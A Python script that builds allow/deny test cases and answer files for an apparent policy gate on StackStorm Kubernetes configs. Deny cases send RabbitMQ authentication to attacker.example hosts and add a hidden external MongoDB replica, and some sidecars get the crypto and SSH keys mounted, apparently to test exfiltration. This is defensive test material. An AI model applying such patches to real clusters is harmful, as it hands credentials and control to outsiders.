case('cfg-token-ttl-staging', 'staging', 'deny', 'auth-weakening', 'staging: [auth] token_ttl 5 years', userconf('\n[auth]\ntoken_ttl = 157680000\n'))
case('ok-token-ttl-7d', 'prod', 'allow', 'safe', '[auth] token_ttl 7 days', userconf('\n[auth]\ntoken_ttl = 604800\n'))
case('ok-etcd-discovery-none', 'prod', 'allow', 'safe', 'etcd --initial-cluster-token renamed (static cluster, same members)', [(dep('etcd', 'StatefulSet'), [{'op': 'replace', 'path': '/spec/template/spec/containers/0/command/9', 'value': '--initial-cluster-token=st2-etcd-prod'}])])
case('ok-rmq-ldap-internal', 'prod', 'allow', 'safe', 'RabbitMQ LDAP backend on the in-cluster corporate LDAP over TLS (ldap.st2-prod.svc), internal fallback',
     [(cm('rabbitmq-config'), [{'op': 'replace', 'path': '/data/enabled_plugins', 'value': '[rabbitmq_management,rabbitmq_auth_backend_ldap].\n'}, {'op': 'replace', 'path': '/data/rabbitmq.conf', 'value': None}])])
case('ok-pip-env-internal', 'prod', 'allow', 'safe', 'PIP_INDEX_URL to the in-cluster devpi mirror in st2-prod', [(dep('st2actionrunner'), env([('PIP_INDEX_URL', 'http://devpi.st2-prod.svc.cluster.local:3141/root/pypi/+simple/')]))])
case('ok-git-safe-directory', 'prod', 'allow', 'safe', '/etc/gitconfig with safe.directory and user.name only',
     [(dep('st2actionrunner'), mountcm('st2-gitcfg', '/etc/gitconfig', 'gitconfig'))], {'cm.yaml': cmres('st2-gitcfg', {'gitconfig': '[safe]\n\tdirectory = /opt/stackstorm/packs/*\n[user]\n\tname = st2\n'})})
case('ok-timers-recreate-sensor', 'prod', 'allow', 'safe', 'st2sensorcontainer strategy Recreate restated', [(dep('st2sensorcontainer'), [{'op': 'replace', 'path': '/spec/strategy', 'value': {'type': 'Recreate'}}])])
case('ok-startup-probe-api', 'prod', 'allow', 'safe', 'startupProbe tcpSocket 9101 on st2api, 30 x 5s', [(dep('st2api'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/startupProbe', 'value': {'tcpSocket': {'port': 9101}, 'periodSeconds': 5, 'failureThreshold': 30}}])])


case('ok-backup-cronjob-pvc', 'prod', 'allow', 'safe', 'nightly mongodump to a PVC in st2-prod (credentials from the existing Secret)',
     resources={'b.yaml': obj({'apiVersion': 'batch/v1', 'kind': 'CronJob', 'metadata': {'name': 'mongodb-backup'}, 'spec': {'schedule': '17 3 * * *', 'concurrencyPolicy': 'Forbid', 'jobTemplate': {'spec': {'backoffLimit': 1, 'template': {'spec': {'restartPolicy': 'Never', 'securityContext': {'runAsNonRoot': True, 'runAsUser': 999, 'fsGroup': 999, 'seccompProfile': {'type': 'RuntimeDefault'}}, 'containers': [{'name': 'dump', 'image': 'mongo:4.4.29', 'command': ['sh', '-c', 'mongodump --host "rs0/mongodb-0.mongodb:27017,mongodb-1.mongodb:27017,mongodb-2.mongodb:27017" -u "$U" -p "$P" --authenticationDatabase admin --archive=/backup/st2-$(date +%F).gz --gzip'], 'env': [{'name': 'U', 'valueFrom': {'secretKeyRef': {'name': 'mongodb-admin', 'key': 'user'}}}, {'name': 'P', 'valueFrom': {'secretKeyRef': {'name': 'mongodb-admin', 'key': 'password'}}}], 'resources': {'requests': {'cpu': '100m', 'memory': '256Mi'}, 'limits': {'cpu': '1', 'memory': '1Gi'}}, 'securityContext': {'allowPrivilegeEscalation': False, 'capabilities': {'drop': ['ALL']}}, 'volumeMounts': [{'name': 'backup', 'mountPath': '/backup'}]}], 'volumes': [{'name': 'backup', 'persistentVolumeClaim': {'claimName': 'mongodb-backup'}}]}}}}}}) + '---\n' + obj({'apiVersion': 'v1', 'kind': 'PersistentVolumeClaim', 'metadata': {'name': 'mongodb-backup'}, 'spec': {'accessModes': ['ReadWriteOnce'], 'resources': {'requests': {'storage': '50Gi'}}}})})
case('ok-pack-config-jinja', 'prod', 'allow', 'safe', 'pack config referencing the datastore ({{ st2kv.system.jira_password | decrypt_kv }}) instead of a literal',
     [(cm('st2-pack-configs'), [{'op': 'add', 'path': '/data/jira.yaml', 'value': '---\nurl: https://jira.example.com\nusername: st2-bot\npassword: "{{ st2kv.system.jira_password | decrypt_kv }}"\n'}])])
case('ok-uuid-cluster-id', 'prod', 'allow', 'safe', 'ConfigMap with a non-secret cluster UUID and a sha256 build digest',
     resources={'c.yaml': cmres('st2-build-info', {'info.txt': 'cluster_id = 5f0c2a7e-9b1d-4c3e-8f2a-6d7b1e0c9a44\nbuild = sha256:3b8e9f1c2d4a5b6c7d8e9f0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e\n'})})
case('ok-keda-runner', 'prod', 'allow', 'safe', 'KEDA ScaledObject scales st2actionrunner 8..20 on RabbitMQ queue length (TriggerAuthentication from the existing Secret)',
     resources={'k.yaml': obj({'apiVersion': 'keda.sh/v1alpha1', 'kind': 'ScaledObject', 'metadata': {'name': 'st2actionrunner'}, 'spec': {'scaleTargetRef': {'name': 'st2actionrunner'}, 'minReplicaCount': 8, 'maxReplicaCount': 20, 'triggers': [{'type': 'rabbitmq', 'metadata': {'queueName': 'st2.actionrunner.work', 'mode': 'QueueLength', 'value': '20'}, 'authenticationRef': {'name': 'rabbitmq-conn'}}]}}) + '---\n' + obj({'apiVersion': 'keda.sh/v1alpha1', 'kind': 'TriggerAuthentication', 'metadata': {'name': 'rabbitmq-conn'}, 'spec': {'secretTargetRef': [{'parameter': 'host', 'name': 'st2-config-secrets-amqp', 'key': 'uri'}]}})})
case('ok-messaging-retries', 'prod', 'allow', 'safe', '[messaging] connection_retries / [database] connection_retries raised (more resilient start-up)', userconf('\n[messaging]\nconnection_retries = 20\nconnection_retry_wait = 5000\n\n[database]\nconnection_retries = 20\n'))
case('ok-allow-origin-tight', 'prod', 'allow', 'safe', '[api] allow_origin narrowed to the st2web host', [(cm('st2-config'), [{'op': 'replace', 'path': '/data/st2.user.conf', 'value': "[api]\nallow_origin = https://st2.example.com\n"}])])
case('ok-etcd-timeouts', 'prod', 'allow', 'safe', 'etcd --heartbeat-interval=250 --election-timeout=2500 (ratio 10, etcd tuning guide)',
     [(dep('etcd', 'StatefulSet'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/command/-', 'value': '--heartbeat-interval=250'}, {'op': 'add', 'path': '/spec/template/spec/containers/0/command/-', 'value': '--election-timeout=2500'}])])
case('ok-mongo-oplog', 'prod', 'allow', 'safe', 'mongod --oplogSize 4096', [(dep('mongodb', 'StatefulSet'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/args/-', 'value': '--oplogSize'}, {'op': 'add', 'path': '/spec/template/spec/containers/0/args/-', 'value': '4096'}])])
case('ok-automount-off', 'prod', 'allow', 'safe', 'automountServiceAccountToken false on st2api', [(dep('st2api'), [{'op': 'add', 'path': '/spec/template/spec/automountServiceAccountToken', 'value': False}])])
case('ok-rmq-consumer-timeout', 'prod', 'allow', 'safe', 'RabbitMQ consumer_timeout 2h (long actions ack late)', [(cm('rabbitmq-config'), [{'op': 'replace', 'path': '/data/rabbitmq.conf', 'value': None}])])
case('ok-python-healthcheck', 'prod', 'allow', 'safe', 'st2api startupProbe exec python urlopen of its own port on localhost',
     [(dep('st2api'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/startupProbe', 'value': {'exec': {'command': ['python3', '-c', "import socket; socket.create_connection(('127.0.0.1', 9101), 2)"]}, 'periodSeconds': 5, 'failureThreshold': 30}}])])
case('ok-scp-internal', 'prod', 'allow', 'safe', 'runner sidecar pulls a file from an in-cluster artifact service (wget from http://artifacts.st2-prod.svc)',
     sc('st2actionrunner', 'fetch', ['sh', '-c', 'wget -q -O /tmp/inventory.yaml http://artifacts.st2-prod.svc.cluster.local/inventory.yaml; sleep infinity']))


def sensor_part(name, rng):
    return obj({'apiVersion': 'apps/v1', 'kind': 'Deployment', 'metadata': {'name': name, 'labels': {'app': name}}, 'spec': {'replicas': 1, 'strategy': {'type': 'Recreate'}, 'selector': {'matchLabels': {'app': name}}, 'template': {'metadata': {'labels': {'app': name}}, 'spec': {
        'securityContext': {'runAsNonRoot': True, 'runAsUser': 1000, 'runAsGroup': 1000, 'fsGroup': 1000, 'seccompProfile': {'type': 'RuntimeDefault'}},
        'containers': [{'name': 'st2sensorcontainer', 'image': 'stackstorm/st2sensorcontainer:3.8.1', 'command': ['/opt/stackstorm/st2/bin/st2sensorcontainer', '--config-file=/etc/st2/st2.conf', '--config-file=/etc/st2/st2.docker.conf', '--config-file=/etc/st2/st2.user.conf', '--config-file=/etc/st2/st2.secrets.conf', '--config-file=/etc/st2/st2.partition.conf'],
          'resources': {'requests': {'cpu': '100m', 'memory': '256Mi'}, 'limits': {'cpu': '1', 'memory': '1Gi'}}, 'securityContext': {'allowPrivilegeEscalation': False, 'capabilities': {'drop': ['ALL']}},
          'volumeMounts': [{'name': 'st2-config-vol', 'mountPath': '/etc/st2/st2.docker.conf', 'subPath': 'st2.docker.conf'}, {'name': 'st2-config-vol', 'mountPath': '/etc/st2/st2.user.conf', 'subPath': 'st2.user.conf'}, {'name': 'st2-config-secrets-vol', 'mountPath': '/etc/st2/st2.secrets.conf', 'subPath': 'st2.secrets.conf'}, {'name': 'part', 'mountPath': '/etc/st2/st2.partition.conf', 'subPath': 'st2.partition.conf'}]}],
        'volumes': [{'name': 'st2-config-vol', 'configMap': {'name': 'st2-config'}}, {'name': 'st2-config-secrets-vol', 'secret': {'secretName': 'st2-config-secrets', 'defaultMode': 288}}, {'name': 'part', 'configMap': {'name': name + '-partition'}}]}}}}) + '---\n' + cmres(name + '-partition', {'st2.partition.conf': f'[sensorcontainer]\nsensor_node_name = {name}\npartition_provider = name:hash, hash_ranges:{rng}\n'})
case('ok-sensor-hash-partitions', 'prod', 'allow', 'safe', 'ha.rst sensor partitioning: st2sensorcontainer takes hash range 0..2^31 and a second Deployment (replicas 1) takes 2^31..2^32 (chart multiple-sensors-per-pod mode, name:hash provider)',
     [(dep('st2sensorcontainer'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/args/-', 'value': '--config-file=/etc/st2/st2.partition.conf'}] + mountcm('st2sensorcontainer-a-partition', '/etc/st2/st2.partition.conf', 'st2.partition.conf'))],
     {'a.yaml': cmres('st2sensorcontainer-a-partition', {'st2.partition.conf': '[sensorcontainer]\nsensor_node_name = st2sensorcontainer-a\npartition_provider = name:hash, hash_ranges:0..2147483648\n'}), 'b.yaml': sensor_part('st2sensorcontainer-b', '2147483648..4294967296')})
case('ok-staging-waiver-limits', 'staging', 'allow', 'safe', 'staging: waivable rule HRD-002 (limits) waived on one resource with reason and a 55-day expiry',
     [(dep('st2client'), [{'op': 'remove', 'path': '/spec/template/spec/containers/0/resources'}, {'op': 'add', 'path': '/metadata/annotations/st2-gitops~1waive.ST2-HRD-002', 'value': 'expires=2027-01-31; reason=limits from the namespace LimitRange, INC-1234'}])])


case('sensor-hash-overlap', 'prod', 'deny', 'singleton-twice', 'two partitioned sensor Deployments whose hash_ranges overlap (both 0..2^32): every sensor runs in both (HashPartitioner owns a sensor when its hash is in any listed range)',
     [(dep('st2sensorcontainer'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/args/-', 'value': '--config-file=/etc/st2/st2.partition.conf'}] + mountcm('st2sensorcontainer-a-partition', '/etc/st2/st2.partition.conf', 'st2.partition.conf'))],
     {'a.yaml': cmres('st2sensorcontainer-a-partition', {'st2.partition.conf': '[sensorcontainer]\nsensor_node_name = st2sensorcontainer-a\npartition_provider = name:hash, hash_ranges:0..4294967296\n'}), 'b.yaml': sensor_part('st2sensorcontainer-b', '0..4294967296')})
case('sensor-hash-overlap-partial', 'prod', 'deny', 'singleton-twice', 'partitioned sensor Deployments with ranges 0..3000000000 and 2000000000..4294967296: sensors hashing into the overlap run twice',
     [(dep('st2sensorcontainer'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/args/-', 'value': '--config-file=/etc/st2/st2.partition.conf'}] + mountcm('st2sensorcontainer-a-partition', '/etc/st2/st2.partition.conf', 'st2.partition.conf'))],
     {'a.yaml': cmres('st2sensorcontainer-a-partition', {'st2.partition.conf': '[sensorcontainer]\nsensor_node_name = st2sensorcontainer-a\npartition_provider = name:hash, hash_ranges:0..3000000000\n'}), 'b.yaml': sensor_part('st2sensorcontainer-b', '2000000000..4294967296')})
case('sensor-same-node-name-default', 'prod', 'deny', 'singleton-twice', 'second sensor Deployment with partition_provider name:default and the SAME sensor_node_name as the first: both load the same partition list',
     [(dep('st2sensorcontainer'), [{'op': 'add', 'path': '/spec/template/spec/containers/0/args/-', 'value': '--config-file=/etc/st2/st2.partition.conf'}] + mountcm('st2sensorcontainer-a-partition', '/etc/st2/st2.partition.conf', 'st2.partition.conf'))],
     {'a.yaml': cmres('st2sensorcontainer-a-partition', {'st2.partition.conf': '[sensorcontainer]\nsensor_node_name = sensornode1\npartition_provider = name:default\n'}),
      'b.yaml': sensor_part('st2sensorcontainer-b', 'X').replace('sensor_node_name = st2sensorcontainer-b', 'sensor_node_name = sensornode1').replace('partition_provider = name:hash, hash_ranges:X', 'partition_provider = name:default')})

# fill in the rabbitmq.conf-based cases
import re
RMQCONF = json.load(open('/tmp/r13prod.json'))['items']
RMQCONF = [o for o in RMQCONF if o['metadata']['name'] == 'rabbitmq-config'][0]['data']['rabbitmq.conf']
extra = {
 'rmq-auth-http-external': 'auth_backends.1 = http\nauth_http.http_method = post\nauth_http.user_path = https://authz.attacker.example/auth/user\nauth_http.vhost_path = https://authz.attacker.example/auth/vhost\nauth_http.resource_path = https://authz.attacker.example/auth/resource\nauth_http.topic_path = https://authz.attacker.example/auth/topic\n',
 'rmq-auth-ldap-external': 'auth_backends.1 = ldap\nauth_backends.2 = internal\nauth_ldap.servers.1 = ldap.attacker.example\nauth_ldap.use_ssl = false\nauth_ldap.port = 389\nauth_ldap.user_dn_pattern = cn=${username},ou=People,dc=example,dc=com\n',
 #'rmq-extra-node': 'cluster_formation.classic_config.nodes.4 = rabbit@rabbit-dr.attacker.example\n',
 'ok-rmq-watermark': 'vm_memory_high_watermark.relative = 0.6\n',
 'ok-rmq-consumer-timeout': 'consumer_timeout = 7200000\n',
 'rmq-ldap-authn-split': 'auth_backends.1.authn = ldap\nauth_backends.1.authz = internal\nauth_ldap.servers.1 = 203.0.113.120\nauth_ldap.port = 389\nauth_ldap.user_dn_pattern = uid=${username},dc=corp,dc=example\n',
 'rmq-ldap-staging': 'auth_backends.1 = ldap\nauth_backends.2 = internal\nauth_ldap.servers.1 = ldap.attacker.example\nauth_ldap.user_dn_pattern = cn=${username},dc=example\n',
 'ok-rmq-ldap-internal': 'auth_backends.1 = ldap\nauth_backends.2 = internal\nauth_ldap.servers.1 = ldap.st2-prod.svc.cluster.local\nauth_ldap.use_ssl = true\nauth_ldap.port = 636\nauth_ldap.user_dn_pattern = cn=${username},ou=People,dc=example,dc=com\n',
}
for cid, add in extra.items():
    p = os.path.join(CASES, cid, 'p0.yaml'); ops = json.load(open(p))
    for o in ops:
        if o['path'] == '/data/rabbitmq.conf': o['value'] = RMQCONF + add
    open(p, 'w').write(json.dumps(ops, indent=1) + '\n')
# mongo-rs-add-external dropped
if 0:
  p = os.path.join(CASES, 'mongo-rs-add-external', 'p0.yaml'); ops = json.load(open(p))
  js = [o for o in json.load(open('/tmp/r13prod.json'))['items'] if o['metadata']['name'] == 'mongodb-scripts'][0]['data']['replset-init.js']
  ops[0] = {'op': 'replace', 'path': '/data/replset-init.js', 'value': js + 'rs.add({ host: "mongo-dr.attacker.example:27017", priority: 0, hidden: true, votes: 0 });\n'}
  open(p, 'w').write(json.dumps(ops, indent=1) + '\n')


# sidecars that read the datastore key / stanley key need those volumes mounted (same volumes as the main container)
for cid, mounts in {'x-python-post': [('st2-datastore-crypto-key-vol', '/etc/st2/keys', None)],
                    'x-python-heredoc-socket': [('st2-datastore-crypto-key-vol', '/etc/st2/keys', None)],
                    'x-ftp-python': [('st2-datastore-crypto-key-vol', '/etc/st2/keys', None)],
                    'x-ssh-scp': [('st2-datastore-crypto-key-vol', '/etc/st2/keys', None), ('st2-ssh-key-vol', '/home/stanley/.ssh/stanley_rsa', 'stanley_rsa')]}.items():
    pth = os.path.join(CASES, cid, 'p0.yaml'); ops = json.load(open(pth))
    for o in ops:
        if o['path'] == '/spec/template/spec/containers/-':
            for n, mp, sp in mounts:
                m = {'name': n, 'mountPath': mp, 'readOnly': True}
                if sp: m['subPath'] = sp
                o['value']['volumeMounts'].append(m)
    open(pth, 'w').write(json.dumps(ops, indent=1) + '\n')

# Pruned to keep the corpus near 150-220: near-duplicate variants, all of which the gate denied
# (unsafe) or allowed (safe) in the full 283-case run of 2026-12-07 03:31 UTC.
DROP = set("""exp-lb-azure-internal-false exp-lb-ranges-annotation-all exp-ingress-allowlist-halves exp-istio-vs-tcp exp-traefik-tcp exp-ingress-st2stream-norange exp-ingress-defaultbackend-mongo exp-lb-st2web-ipv6-all exp-externalips-mongo hp-crio-sock-dir hp-etc-kubernetes hp-dev-dev hp-trailing-slash-root priv-apparmor-unconfined priv-procmount rbac-pods-attach-unauth rbac-user-wildcard k-st2auth-liveness-401 k-rmq-memlimit k-deadline-job k-cm-items-drop cfg-mask-secrets-api-off-staging cfg-content-index-url-list cfg-db-host-srv cfg-config-dir-rbacoff cfg-msg-ssl-on x-nc-pipe x-git-push x-perl-socket x-kubelet-httpget-host tim-ifs-split tim-symlink sec-base64-twice-gz sec-unicode-escape-printf gate-waiver-pod-template mongo-transition-config mongo-memlimit-tiny image-mongo-latest urls-auth-external env-https-proxy-all sensor-hash-overlap-partial exp-lb-ranges-halves exp-hostnetwork-etcd hp-k3s-sock priv-ns-label-privileged rbac-escalate-bind k-memlimit-api py-pth ld-preload-download image-etcd-36 cfg-coord-etcd3 tim-lifecycle-poststart sec-split-keys-env gate-waiver-lowercase-rule x-prestop-curl ok-rbac-ON ok-log-mask-on ok-db-ssl-off ok-mongo-oplog ok-labels ok-annotation-sync ok-readiness-http-root ok-sensor-recreate ok-pullpolicy ok-mask-explicit ok-workflow-engine-5 ok-priorityclass""".split())
for cid in DROP: shutil.rmtree(os.path.join(CASES, cid))
V = [r for r in V if r[0] not in DROP]; P = [r for r in P if r[0] not in DROP]
with open(os.path.join(HERE, 'verdicts.tsv'), 'w') as f:
    for r in V: f.write('\t'.join(r) + '\n')
with open(os.path.join(HERE, 'planted.tsv'), 'w') as f:
    for r in P: f.write('\t'.join(r) + '\n')
from collections import Counter
print(len(V), Counter(r[1] for r in V))
